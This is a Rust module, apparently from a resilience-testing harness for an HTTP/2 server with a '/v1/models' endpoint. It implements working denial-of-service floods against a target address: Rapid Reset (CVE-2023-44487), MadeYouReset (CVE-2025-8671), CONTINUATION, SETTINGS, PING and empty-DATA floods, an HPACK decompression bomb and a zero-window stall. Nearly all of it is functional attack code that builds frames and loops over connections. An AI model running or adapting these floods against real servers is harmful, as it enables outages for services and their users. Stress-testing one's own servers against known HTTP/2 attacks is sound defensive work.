//! Attacks on HTTP/2: floods that cost the client little and are meant to cost the server much.
//!
//! Each fires a number of shots, over as many connections as the server makes it use.

use std::net::SocketAddr;
use std::time::Duration;

use super::Fired;
use super::frames::{
    CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, Reading,
    SETTINGS, WINDOW_UPDATE, block, call, field, frame, get, kept_field,
};

/// About how much is written at once.
const BATCH_BYTES: usize = 16 << 10;
/// A server that ends every connection at once is not called forever.
const CONNECTIONS_MAX: u64 = 20_000;
/// How long answers may take to come, where an attack waits for them.
const ANSWERS_MAX: Duration = Duration::from_secs(20);
/// A stream that a client opens has an odd number; this is the largest.
const STREAM_MAX: u32 = (1 << 31) - 1;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// What comes before the shots of a connection.
#[derive(Clone, Copy)]
enum Opening<'a> {
    /// Nothing.
    Plain,
    /// A request that the shots belong to.
    Request(&'a [u8]),
    /// The beginning of a header block, which shots go on with.
    HalfHead(&'a [u8]),
}

/// Fires `shots` times what `shot` appends for a stream, on new connections whenever the server has had enough. Whoever
/// does not read gets one connection, and fires what the server takes on it.
async fn fire(
    at: SocketAddr,
    shots: u64,
    reading: Reading,
    opening: Opening<'_>,
    mut shot: impl FnMut(&mut Vec<u8>, u32),
) -> anyhow::Result<Fired> {
    let (opening, is_inside_head) = match opening {
        Opening::Plain => (&[][..], false),
        Opening::Request(bytes) => (bytes, false),
        Opening::HalfHead(bytes) => (bytes, true),
    };
    let mut fired = Fired::default();
    let mut batch = Vec::with_capacity(2 * BATCH_BYTES);
    // A server that waits for its reader takes no more, on this connection or on the next.
    let connections_max = if reading == Reading::Never { 1 } else { CONNECTIONS_MAX };
    while fired.shots < shots && fired.connections < connections_max {
        let mut connection = Connection::open(at, &[], reading).await?;
        let mut left = shots - fired.shots;
        let mut stream = 1;
        let mut goes_on = opening.is_empty() || connection.send(opening, 0).await;
        while goes_on && left > 0 && stream < STREAM_MAX - 2 {
            batch.clear();
            let mut count = 0;
            while batch.len() < BATCH_BYTES && count < left && stream < STREAM_MAX - 2 {
                shot(&mut batch, stream);
                stream += 2;
                count += 1;
            }
            goes_on = connection.send(&batch, count).await;
            left -= count;
            // The server is never ahead by more than a batch, so that what counts as fired was really seen by it, or
            // ended its connection. In the middle of a header block it cannot be asked.
            if reading == Reading::Always && !is_inside_head {
                connection.settle().await;
                goes_on &= !connection.has_ended();
            }
        }
        if reading == Reading::Always && is_inside_head {
            connection.settle().await;
        }
        connection.close(&mut fired);
    }
    Ok(fired)
}

/// CVE-2023-44487: streams that are opened and cancelled at once.
pub async fn rapid_reset(at: SocketAddr, streams: u64) -> anyhow::Result<Fired> {
    let call = call(at);
    fire(at, streams, Reading::Always, Opening::Plain, |out, stream| {
        frame(out, HEADERS, END_HEADERS, stream, &call);
        frame(out, RST_STREAM, 0, stream, &CANCEL);
    })
    .await
}

/// CVE-2025-8671: streams that are opened and then misused, so that the server resets them itself while what it began for
/// them goes on. Every way to misuse one gets its share.
pub async fn made_you_reset(at: SocketAddr, streams: u64) -> anyhow::Result<Fired> {
    type Misuse = fn(&mut Vec<u8>, u32);
    const MISUSES: [Misuse; 6] = [
        |out, stream| frame(out, WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
        |out, stream| frame(out, WINDOW_UPDATE, 0, stream, &STREAM_MAX.to_be_bytes()),
        |out, stream| frame(out, DATA, END_STREAM, stream, b"after the end"),
        |out, stream| {
            let [a, b, c, d] = stream.to_be_bytes();
            frame(out, PRIORITY, 0, stream, &[a, b, c, d, 16]);
        },
        |out, stream| frame(out, PRIORITY, 0, stream, &[0, 0]),
        |out, stream| {
            let late = block(&[(b":path", b"/late")]);
            frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &late);
        },
    ];
    let get = get(at, "/v1/models");
    let mut fired = Fired::default();
    for misuse in MISUSES {
        let share = streams / u64::try_from(MISUSES.len())?;
        let one = fire(at, share, Reading::Always, Opening::Plain, |out, stream| {
            frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &get);
            misuse(out, stream);
        });
        fired.add(&one.await?);
    }
    Ok(fired)
}

/// A header block that never ends: empty pieces, and pieces with fields. Shots are frames.
pub async fn continuation_flood(at: SocketAddr, frames: u64) -> anyhow::Result<Fired> {
    let mut opening = Vec::new();
    frame(&mut opening, HEADERS, END_STREAM, 1, &get(at, "/v1/models"));
    let mut filled = Vec::new();
    field(&mut filled, b"x-flood", &[b'x'; 1000]);
    let mut fired = Fired::default();
    for piece in [&[][..], &filled] {
        let one = fire(at, frames / 2, Reading::Always, Opening::HalfHead(&opening), |out, _| {
            frame(out, CONTINUATION, 0, 1, piece)
        });
        fired.add(&one.await?);
    }
    Ok(fired)
}

/// SETTINGS that each ask for an acknowledgement, which is read by half of the attackers.
pub async fn settings_flood(at: SocketAddr, frames: u64) -> anyhow::Result<Fired> {
    // SETTINGS_INITIAL_WINDOW_SIZE changes every time, so that streams have to be looked at.
    let flood = async |reading| {
        fire(at, frames / 2, reading, Opening::Plain, |out, stream| {
            let [a, b, c, d] = (stream % 65_536).to_be_bytes();
            frame(out, SETTINGS, 0, 0, &[0, 4, a, b, c, d]);
        })
        .await
    };
    let mut fired = flood(Reading::Always).await?;
    fired.add(&flood(Reading::Never).await?);
    Ok(fired)
}

/// PINGs, whose answers are read by half of the attackers.
pub async fn ping_flood(at: SocketAddr, frames: u64) -> anyhow::Result<Fired> {
    let flood = async |reading| {
        fire(at, frames / 2, reading, Opening::Plain, |out, stream| {
            frame(out, PING, 0, 0, &u64::from(stream).to_be_bytes());
        })
        .await
    };
    let mut fired = flood(Reading::Always).await?;
    fired.add(&flood(Reading::Never).await?);
    Ok(fired)
}

/// DATA without data, which no window holds up.
pub async fn empty_data_flood(at: SocketAddr, frames: u64) -> anyhow::Result<Fired> {
    let mut opening = Vec::new();
    frame(&mut opening, HEADERS, END_HEADERS, 1, &call(at));
    fire(at, frames, Reading::Always, Opening::Request(&opening), |out, _| frame(out, DATA, 0, 1, &[])).await
}

/// Header blocks of a few KiB that unfold to megabytes: a long field is put into the decoder's table once and then named
/// by one byte, over and over.
pub async fn hpack_bomb(at: SocketAddr, blocks: u64) -> anyhow::Result<Fired> {
    const REFERENCES: usize = 15 << 10;
    /// The newest entry of the table.
    const NEWEST: u8 = 0x80 | 62;
    let mut bomb = get(at, "/v1/models");
    kept_field(&mut bomb, b"x-bomb", &[b'x'; 4_000]);
    let rest = vec![NEWEST; REFERENCES];
    fire(at, blocks, Reading::Always, Opening::Plain, |out, stream| {
        frame(out, HEADERS, END_STREAM, stream, &bomb);
        frame(out, CONTINUATION, END_HEADERS, stream, &rest);
    })
    .await
}

/// Calls whose answers are not let through: the client's window is zero, and stays so until every stream has begun.
/// Shots are streams; what has begun is counted among the statuses.
pub async fn zero_window_stall(at: SocketAddr, streams: u64, body: &[u8]) -> anyhow::Result<Fired> {
    const STREAMS_EACH: u64 = 100;
    /// SETTINGS_INITIAL_WINDOW_SIZE is zero.
    const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
    let call = call(at);
    let mut open = Vec::new();
    let mut left = streams;
    while left > 0 {
        let now = left.min(STREAMS_EACH);
        left -= now;
        let mut connection = Connection::open(at, &NO_WINDOW, Reading::Always).await?;
        for number in 1..=now {
            let (mut bytes, stream) = (Vec::new(), u32::try_from(2 * number - 1)?);
            frame(&mut bytes, HEADERS, END_HEADERS, stream, &call);
            frame(&mut bytes, DATA, END_STREAM, stream, body);
            connection.send(&bytes, 1).await;
            // One after the other: what calls cost that are under way at once is not what this asks.
            connection.wait_answers(number, ANSWERS_MAX).await;
        }
        open.push(connection);
    }
    let mut fired = Fired::default();
    // Everything stands still now, and stays so for a moment that the server's memory can be looked at in.
    tokio::time::sleep(Duration::from_secs(1)).await;
    for connection in open {
        *fired.statuses.entry(200).or_default() += connection.good_answers();
        connection.close(&mut fired);
    }
    Ok(fired)
}
